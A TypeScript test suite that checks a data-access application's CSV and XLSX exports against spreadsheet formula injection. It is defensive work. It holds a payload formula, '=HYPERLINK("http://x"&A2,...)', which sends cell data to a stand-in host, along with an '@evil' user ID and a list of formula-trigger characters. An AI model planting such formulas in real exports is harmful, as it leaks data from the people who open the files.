import { describe, test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import readXlsxFile from 'read-excel-file/node';
import { runCli } from '../support/cli.ts';
import { inertText } from '../../src/spreadsheet/table.ts';
import { csvLine, csvText } from '../../src/spreadsheet/csv-file.ts';
import { login, seededApp, type Session } from '../support/app.ts';
import { NOW, SP, TERMINALS, USERS, seedEmergencyRoles } from '../support/fixture.ts';
import { AFFILIATE, PERIOD, writeDataset } from '../support/legacy-dataset.ts';
import { STORES } from '../support/stores.ts';

/** What a spreadsheet reads as a formula when a text cell starts with it (OWASP CSV injection). */
const DANGEROUS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'] as const;
/** A CSV cell without the one tab the writer puts before text a spreadsheet would read as a number (an ID). */
const unprotected = (s: string) => s.replace(/^\t(?=[^=+\-@\t\r＝＋－＠])/, '');
const startsDangerous = (s: string) => DANGEROUS.some((c) => s.startsWith(c));
const HYPERLINK = '=HYPERLINK("http://x"&A2,"open")';

describe('spreadsheet text is inert (issue 14)', () => {
  const text = fc.oneof(
    fc.string(),
    fc.string({ unit: 'grapheme' }),
    fc.tuple(fc.constantFrom(...DANGEROUS, "'", ' '), fc.string()).map(([c, s]) => c + s),
  );

  test('inertText never starts with a formula character, and taking off the one quote it added gives the input back', () => {
    fc.assert(
      fc.property(text, (s) => {
        const out = inertText(s);
        assert.ok(!startsDangerous(out), JSON.stringify(out));
        assert.equal(out === s ? s : out.slice(1), s);
        assert.ok(out === s || out === `'${s}`, 'at most one quote, in front');
        assert.equal(out !== s, startsDangerous(s), 'only text that would be read as a formula changes');
      }),
      { numRuns: 2000 },
    );
  });

  test('a CSV cell reads back (RFC 4180) as the inert text; numbers stay numbers, negative ones included', () => {
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 5 }), (cells) => {
        const [row]: string[][] = parse(csvLine(cells.map((value) => ({ kind: 'text', value }))), { relax_column_count: true });
        assert.deepEqual(row, cells.map(csvText));
        for (const c of row ?? []) assert.ok(!startsDangerous(unprotected(c)), JSON.stringify(c));
      }),
      { numRuns: 500 },
    );
    const line = (kind: 'number' | 'text', value: number | string) => csvLine([{ kind, value } as Parameters<typeof csvLine>[0][number]]);
    assert.equal(line('number', -5), '-5\r\n');
    assert.equal(line('number', -1.5), '-1.5\r\n');
    assert.equal(line('text', '-5'), "'-5\r\n", 'text that looks like a negative number is still text');
    assert.equal(line('text', '0217800042931015223320'), '"\t0217800042931015223320"\r\n', 'an ID keeps its digits behind one tab');
  });
});

for (const store of STORES) {
  describe(`the emergency review CSV on ${store.name}: a read's stated reason is not a formula`, () => {
    let now = NOW;
    const w = seededApp(store, { now: () => now }, seedEmergencyRoles);
    const at = (hours: number) => new Date(NOW.getTime() + hours * 3_600_000);
    const post = (s: Session, url: string, payload: Record<string, unknown> = {}) =>
      w.app.inject({ method: 'POST', url, headers: { cookie: s.cookie, 'x-csrf-token': s.csrf }, payload });
    const put = (s: Session, url: string, payload: Record<string, unknown>) =>
      w.app.inject({ method: 'PUT', url, headers: { cookie: s.cookie, 'x-csrf-token': s.csrf }, payload });
    const get = (s: Session, url: string) => w.app.inject({ method: 'GET', url, headers: { cookie: s.cookie } });

    test(`a reason ${HYPERLINK} reaches compliance's CSV as text`, async () => {
      assert.equal((await put(await login(w.app, USERS.admin), '/api/emergency-support/p-retail', { fields: ['holder_name', 'phone'] })).statusCode, 200);
      const declared = await post(await login(w.app, USERS.callCentre), '/api/emergencies', {
        areas: [{ kind: 'prefecture', prefecture: '宮城県' }],
        startsAt: at(1).toISOString(),
        plannedEndAt: at(25).toISOString(),
        reason: '台風による停電',
      });
      assert.equal(declared.statusCode, 201, declared.body);
      const id = declared.json<{ id: string }>().id;
      assert.equal((await post(await login(w.app, USERS.serviceCentre), `/api/emergencies/${id}/confirm`)).statusCode, 200);

      now = at(2);
      const retail = await login(w.app, USERS.retail, TERMINALS.RETAIL);
      const read = await get(
        retail,
        `/api/supply-points/${SP.SWITCHED}?${new URLSearchParams({ purpose: 'emergency_support', reason: HYPERLINK }).toString()}`,
      );
      assert.equal(read.statusCode, 200, read.body);

      const res = await get(await login(w.app, USERS.compliance), `/api/emergencies/${id}/review?format=csv`);
      assert.equal(res.statusCode, 200, res.body);
      const rows: string[][] = parse(res.body.replace(/^\uFEFF/, ''));
      const head = rows[0] ?? [];
      const reasonAt = head.indexOf('申告された理由');
      assert.ok(reasonAt >= 0);
      const reasons = rows.slice(1).map((r) => r[reasonAt]);
      assert.deepEqual(reasons, [`'${HYPERLINK}`], 'the reason as written, with the quote that makes it text');
      for (const r of rows) for (const cell of r) assert.ok(!startsDangerous(unprotected(cell)), `cell ${JSON.stringify(cell)}`);

      const json = await get(await login(w.app, USERS.compliance), `/api/emergencies/${id}/review`);
      assert.equal(json.json<{ reads: { statedReason: string }[] }>().reads[0]?.statedReason, HYPERLINK, 'JSON carries the value unchanged');
    });
  });
}

describe('the analysis report as XLSX and CSV: text from a legacy export is not a formula', () => {
  let dir: string;

  before(() => {
    dir = mkdtempSync(join(tmpdir(), 'gw-inject-'));
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  /** The legacy dataset plus one more log whose system name and user ID are formulas. */
  function files(): string[] {
    const d = writeDataset(join(dir, 'data'), { seed: 3 });
    const contracts = readFileSync(d.files.contracts, 'utf8')
      .replace(/^\uFEFF/, '')
      .split('\r\n');
    const point = contracts[1]?.split(',')[0] ?? assert.fail('no contract');
    const hostile = join(dir, 'hostile.csv');
    writeFileSync(
      hostile,
      `accessed_at,system,user_id,terminal_id,supply_point_id,screen,fields\r\n2022/11/01 10:00,"${HYPERLINK.replace(/"/g, '""')}",@evil,-T1,${point},照会,holder_name\r\n`,
    );
    return [
      'analyze',
      '--affiliate',
      AFFILIATE,
      '--from',
      PERIOD.from,
      '--to',
      PERIOD.to,
      '--staff',
      d.files.staff,
      '--terminals',
      d.files.terminals,
      '--contracts',
      d.files.contracts,
      ...d.files.logs.flatMap((l) => ['--log', l]),
      '--log',
      hostile,
    ];
  }

  async function run(args: readonly string[]): Promise<number> {
    return (await runCli(args)).status;
  }

  test('every text cell of every sheet is inert; the hostile system name is there as text; counts are numbers', async () => {
    const out = join(dir, 'report.xlsx');
    assert.equal(await run([...files(), '--format', 'xlsx', '--out', out]), 0);
    const sheets = await readXlsxFile(readFileSync(out));
    let texts = 0;
    for (const { sheet, data } of sheets) {
      for (const row of data) {
        for (const cell of row) {
          if (typeof cell !== 'string') continue;
          texts++;
          assert.ok(!startsDangerous(cell), `${sheet}: ${JSON.stringify(cell)}`);
        }
      }
    }
    assert.ok(texts > 50);
    const summary = sheets.find((s) => s.sheet === '集計')?.data ?? assert.fail('no summary sheet');
    const row = summary.find((r) => r[0] === `'${HYPERLINK}`);
    assert.ok(row !== undefined, 'the system name, quoted');
    assert.ok(
      row.slice(1).every((c) => typeof c === 'number'),
      'its counts are numbers',
    );
  });

  test('the CSV of the same report likewise', async () => {
    const out = join(dir, 'report.csv');
    assert.equal(await run([...files(), '--format', 'csv', '--out', out]), 0);
    const rows: string[][] = parse(readFileSync(out, 'utf8').replace(/^\uFEFF/, ''), { relax_column_count: true });
    assert.ok(rows.some((r) => r[0] === `'${HYPERLINK}`));
    for (const r of rows) for (const cell of r) assert.ok(!startsDangerous(unprotected(cell)), JSON.stringify(cell));
  });
});
